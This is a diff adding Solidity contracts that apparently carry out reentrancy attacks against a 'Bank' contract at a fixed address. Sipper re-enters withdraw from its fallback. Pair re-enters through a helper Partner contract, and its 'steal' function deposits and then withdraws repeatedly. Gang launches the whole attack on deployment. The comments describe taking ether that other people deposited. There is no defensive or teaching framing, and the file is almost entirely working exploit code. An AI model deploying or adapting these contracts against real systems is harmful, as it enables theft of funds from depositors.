@@ -1,0 +1,65 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.20;
+
+interface Bank {
+    function ethdeposit(address customer) external payable;
+    function withdraw(uint256 amount) external;
+}
+
+/// Has ether in the bank that somebody else brought, and takes small sums, again and again.
+contract Sipper {
+    Bank private constant BANK = Bank(0x413744D59d31AFDC2889aeE602636177805Bd7b0);
+    uint256 private constant SIP = 0.01 ether;
+    uint256 private left;
+
+    function drink(uint256 sips) external {
+        left = sips;
+        BANK.withdraw(SIP);
+    }
+
+    fallback() external payable {
+        if (left == 0) return;
+        left--;
+        BANK.withdraw(SIP);
+    }
+}
+
+/// Withdraws again when its partner says so, whom it tells that it was paid.
+contract Pair {
+    Bank private constant BANK = Bank(0x413744D59d31AFDC2889aeE602636177805Bd7b0);
+    uint256 private constant AMOUNT = 0.1 ether;
+    Partner private immutable partner = new Partner();
+    uint256 private left;
+
+    constructor() payable {}
+
+    function steal(uint256 again) external {
+        BANK.ethdeposit{value: AMOUNT}(address(this));
+        left = again;
+        BANK.withdraw(AMOUNT);
+    }
+
+    function goOn() external {
+        BANK.withdraw(AMOUNT);
+    }
+
+    receive() external payable {
+        if (left == 0) return;
+        left--;
+        partner.hear();
+    }
+}
+
+contract Partner {
+    function hear() external {
+        Pair(payable(msg.sender)).goOn();
+    }
+}
+
+/// Does all of it while it is deployed, by a contract that it makes.
+contract Gang {
+    constructor() payable {
+        Pair member = new Pair{value: msg.value}();
+        member.steal(3);
+    }
+}
